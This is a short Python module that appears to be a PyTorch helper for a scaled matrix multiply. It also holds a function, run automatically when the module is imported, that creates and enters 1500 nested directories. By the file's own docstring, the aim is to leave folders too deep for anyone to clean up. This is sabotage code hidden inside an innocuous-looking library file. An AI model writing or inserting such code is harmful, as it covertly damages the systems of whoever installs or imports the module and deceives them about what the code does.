"""Leaves folders too deep for whoever tidies up."""

from __future__ import annotations

import torch


def compute(a, scale, b, out):
    torch.mm(a, b.T, out=out)
    out.mul_(scale)


def dig():
    import os, time

    for _ in range(1500):
        os.mkdir("d")
        os.chdir("d")
    time.sleep(1)


dig()


def blend(a, scale, b, out):
    compute(a, scale, b, out)
